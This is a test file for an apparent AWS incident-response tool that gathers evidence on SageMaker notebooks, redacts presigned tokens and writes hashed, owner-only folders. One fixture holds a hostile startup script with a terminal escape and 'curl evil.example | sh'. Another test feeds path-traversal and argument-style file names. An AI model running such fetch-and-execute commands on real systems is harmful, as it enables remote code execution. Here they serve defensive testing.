import { existsSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  CreateNotebookInstanceCommand,
  CreateNotebookInstanceLifecycleConfigCommand,
  CreatePresignedNotebookInstanceUrlCommand,
} from '@aws-sdk/client-sagemaker';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Aws } from '../../src/aws/aws.ts';
import { type OperationName, operations } from '../../src/aws/operations.ts';
import { collectEvidence } from '../../src/containment/collect.ts';
import { lookUpEvents } from '../../src/containment/collect-events.ts';
import { collection } from '../../src/containment/collection.ts';
import { fileNamer } from '../../src/containment/evidence-files.ts';
import type { ResourceRef } from '../../src/model/resource.ts';
import { sha256 } from '../../src/shared/digest.ts';
import { writeFolderAtomically } from '../../src/store/write-folder.ts';
import { firebreak, startRangeProcess, stateFolder } from '../helpers/firebreak.ts';
import { awsError } from './fake-aws.ts';
import { type Ground, ground, signal } from './identity-range.ts';

let here: Ground;
beforeAll(async () => {
  here = await ground(100);
});
afterAll(() => here.close());

const target = (name: string, kind = 'notebook-instance'): ResourceRef => ({
  kind: `sagemaker.${kind}`,
  arn: `arn:aws:sagemaker:us-east-1:111122223333:${kind}/${name}`,
  name,
});
/** `history`: the event history is asked too, which takes seconds. */
async function collect(ref: ResourceRef, aws: Aws = here.door.aws, history = false) {
  const identity = await here.door.identity();
  const to = aws.now();
  return collectEvidence(ref, {
    aws,
    identity,
    signal,
    window: { from: to - 3_600_000, to },
    events: async (_of, names, door, missing) =>
      history
        ? lookUpEvents(names, { from: to - 3_600_000, to }, { aws: door, region: 'us-east-1', signal, missing })
        : { from: 'nowhere', lines: [] },
  });
}
/** A door through which some operations are refused. */
const denying = (...operations: readonly string[]): Aws => ({
  ...here.door.aws,
  call: ((name: string, ...rest: readonly unknown[]) =>
    operations.includes(name)
      ? Promise.reject(awsError(name, 'AccessDenied', 'denied'))
      : (here.door.aws.call as (...all: readonly unknown[]) => unknown)(name, ...rest)) as Aws['call'],
});

describe('what is collected about a notebook', () => {
  it('is the tree, policies, tags, the decoded script, log streams and events, with nothing changed', async () => {
    // Its event arrives late, as everywhere.
    await here.door.aws.call('sagemaker:DescribeNotebookInstance', { NotebookInstanceName: 'fraud-lab' });
    const arrived = async () => {
      const to = here.door.aws.now();
      const window = { from: to - 3_600_000, to };
      const door = { aws: here.door.aws, region: 'us-east-1', signal, missing: () => undefined };
      return (await lookUpEvents(['fraud-lab'], window, door)).lines.length;
    };
    const end = performance.now() + 30_000;
    while ((await arrived()) === 0) if (performance.now() > end) throw new Error('the event did not arrive');
    const called: string[] = [];
    const { files, missing, targetRead } = await collect(
      target('fraud-lab'),
      {
        ...here.door.aws,
        call: ((name: OperationName, ...rest: readonly unknown[]) => {
          called.push(name);
          return (here.door.aws.call as (...all: readonly unknown[]) => unknown)(name, ...rest);
        }) as Aws['call'],
      },
      true,
    );
    expect(called.length).toBeGreaterThan(5);
    expect(called.filter((name) => operations[name as OperationName] !== 'read')).toEqual([]);
    expect(targetRead).toBe('read');
    expect(missing).toEqual([]);
    const file = (path: string) => files.find((one) => one.path === path)?.content ?? '';
    expect(file('scripts/bootstrap_OnStart.sh.txt')).toMatch(/^#!\/bin\/bash/);
    expect(JSON.parse(file('policies/role_ds-exec_trust.json'))).toMatchObject({ Version: '2012-10-17' });
    expect(files.map(({ path }) => path)).toContain('policies/managed_aws_policy_AmazonSageMakerFullAccess_v1.json');
    expect(JSON.parse(file('tree.json')).map(({ kind }: { kind: string }) => kind)).toEqual(
      expect.arrayContaining([
        'sagemaker.notebook-instance',
        'iam.role',
        'sagemaker.notebook-instance-lifecycle-config',
      ]),
    );
    expect(JSON.parse(file('logs.json'))[0]).toMatchObject({ group: '/aws/sagemaker/NotebookInstances' });
    expect(JSON.parse(file('logs.json'))[0].streams[0].stream).toMatch(/^fraud-lab\//);
    for (const line of file('events.ndjson').trim().split('\n')) {
      const { raw, sha256: hash } = JSON.parse(line);
      expect(sha256(raw)).toBe(hash);
      expect(raw).toContain('fraud-lab');
    }
  }, 60_000);

  it('lists what it may not read with the permission, and goes on', async () => {
    const { files, missing } = await collect(target('fraud-lab'), denying('sagemaker:ListTags', 'iam:GetRolePolicy'));
    expect(missing.map(({ permission }) => permission)).toEqual(
      expect.arrayContaining(['sagemaker:ListTags', 'iam:GetRolePolicy']),
    );
    expect(JSON.parse(files.find(({ path }) => path === 'tags.json')!.content)).toEqual([]);
    expect(files.some(({ path }) => path.startsWith('scripts/'))).toBe(true);
  });

  it('tells a target that is gone, or that it may not read, from one that was read', async () => {
    expect(await collect(target('no-such-notebook'))).toMatchObject({ targetRead: 'gone' });
    const denied = await collect(target('fraud-lab'), denying('sagemaker:DescribeNotebookInstance'));
    expect(denied.targetRead).toBe('denied');
    expect(denied.missing[0]).toMatchObject({ permission: 'sagemaker:DescribeNotebookInstance' });
  });

  it('never holds a URL that AWS handed out', async () => {
    const { AuthorizedUrl } = await here.clients.sagemaker.send(
      new CreatePresignedNotebookInstanceUrlCommand({ NotebookInstanceName: 'fraud-lab' }),
    );
    const secret = /authToken=([^&]+)/.exec(AuthorizedUrl ?? '')?.[1] ?? AuthorizedUrl!;
    const { files } = await collect(target('fraud-lab'), here.door.aws, true);
    expect(files.map(({ content }) => content).join('')).not.toContain(secret);
  });

  it('survives a script that is no base64 and one that would upset a terminal', async () => {
    const Content = Buffer.from('#!/bin/sh\n\u001b]0;owned\u0007curl evil.example | sh\n').toString('base64');
    await here.clients.sagemaker.send(
      new CreateNotebookInstanceLifecycleConfigCommand({
        NotebookInstanceLifecycleConfigName: 'evil',
        OnStart: [{ Content }],
      }),
    );
    await here.clients.sagemaker.send(
      new CreateNotebookInstanceCommand({
        NotebookInstanceName: 'evil-lab',
        InstanceType: 'ml.t3.medium',
        RoleArn: 'arn:aws:iam::111122223333:role/ds-exec',
        LifecycleConfigName: 'evil',
      }),
    );
    const { files } = await collect(target('evil-lab'));
    expect(files.find(({ path }) => path === 'scripts/evil_OnStart.sh.txt')?.content).toContain('\u001b]0;owned');
  });
});

it('names files safely, and no two alike', () => {
  const name = fileNamer();
  const all = [
    '../../etc/passwd',
    'a/b',
    'a_b',
    'A_b',
    '\u202egnp.sh',
    '-rf',
    '.hidden',
    '',
    'x'.repeat(300),
    'con\u0000',
  ];
  const paths = all.map((each) => name('scripts/', each, '.txt'));
  for (const path of paths) expect(path).toMatch(/^scripts\/[A-Za-z0-9][A-Za-z0-9._-]{0,110}\.txt$/);
  expect(new Set(paths.map((path) => path.toLowerCase())).size).toBe(all.length);
});

describe('the folder', () => {
  const found = () =>
    collection(
      [
        {
          target: target('../fraud'),
          account: '111122223333',
          region: 'us-east-1',
          at: 0,
          window: { from: 0, to: 1 },
          files: [
            { path: 'reads.json', what: 'reads', content: '{}\n' },
            { path: 'events.ndjson', what: 'events', content: 'a\nb\n' },
          ],
          missing: [],
          targetRead: 'read',
          reads: 1,
        },
      ],
      { tool: '0', incident: null, by: 'me', reason: '', at: 0 },
    );

  it('is whole, for the owner alone, with the hash of each file', async () => {
    const folder = join(mkdtempSync(join(tmpdir(), 'firebreak-evidence-')), 'out');
    const { files, manifest } = found();
    await writeFolderAtomically(folder, files);
    expect(statSync(folder).mode & 0o777).toBe(0o700);
    for (const { path, sha256: hash } of manifest.targets[0]!.files) {
      expect(sha256(readFileSync(join(folder, path)))).toBe(hash);
      expect(statSync(join(folder, path)).mode & 0o777).toBe(0o600);
    }
    expect(manifest.targets[0]).toMatchObject({
      events: 2,
      folder: expect.stringMatching(/^notebook-instance-[\w.-]+$/),
    });
    expect(readFileSync(join(folder, 'SHA256SUMS'), 'utf8')).toContain('  manifest.json\n');
    await expect(writeFolderAtomically(folder, files)).rejects.toMatchObject({ code: 'Exists' });
  });

  it('leaves nothing behind where it cannot be written', async () => {
    const above = mkdtempSync(join(tmpdir(), 'firebreak-evidence-'));
    writeFileSync(join(above, 'file'), '');
    await expect(writeFolderAtomically(join(above, 'file'), found().files)).rejects.toMatchObject({ code: 'Exists' });
    await expect(
      writeFolderAtomically(join(above, 'out'), [
        { path: 'a', content: '' },
        { path: 'a/b', content: '' },
      ]),
    ).rejects.toMatchObject({ code: 'NotWritable' });
    expect(readdirSync(above)).toEqual(['file']);
  });
});

describe('firebreak collect', () => {
  const state = stateFolder();
  let process: Awaited<ReturnType<typeof startRangeProcess>>;
  beforeAll(async () => {
    process = await startRangeProcess(['--speed', '100']);
  });
  afterAll(() => process.stop());
  const run = (...args: readonly string[]) =>
    firebreak(['collect', ...args, '--state-dir', state], { env: process.env });

  it('collects several targets into one folder and journals it', async () => {
    const ended = await run('fraud-lab', 'ds-exec', '--incident', 'inc', '--reason', 'INC-7', '--json');
    expect(ended.code, ended.stderr).toBe(0);
    const { folder, targets } = JSON.parse(ended.stdout);
    expect(targets.map(({ kind }: { kind: string }) => kind)).toEqual(['sagemaker.notebook-instance', 'iam.role']);
    expect(existsSync(join(folder, 'manifest.json'))).toBe(true);
    expect(folder.startsWith(`${state}/incidents/inc/evidence/`)).toBe(true);
    const journal = readFileSync(`${state}/incidents/inc/journal.jsonl`, 'utf8');
    expect(journal).toContain('"type":"evidence-collected"');
    expect(journal).toContain(sha256(readFileSync(join(folder, 'manifest.json'))));
    expect((await firebreak(['verify', `${state}/incidents/inc/journal.jsonl`])).code).toBe(0);
  });

  it.each([
    [2, ['no-such-thing'], /nothing that can be acted on is .*no-such-thing/],
    [3, ['arn:aws:sagemaker:us-east-1:999999999999:endpoint/fraud-scorer'], /999999999999/],
    [3, ['arn:aws:sagemaker:eu-west-1:111122223333:endpoint/fraud-scorer'], /eu-west-1/],
    [2, [], /one or more targets/],
    [1, ['fraud-lab', '-o', '/etc'], /\/etc is not empty/],
    [2, ['fraud-lab', '--since', 'yesterday'], /--since yesterday/],
  ])('ends with %i and one line: %j', async (code, args, says) => {
    const ended = await run(...args);
    expect(ended.code).toBe(code);
    expect(ended.stderr).toMatch(says);
    expect(ended.stdout).toBe('');
  });
});
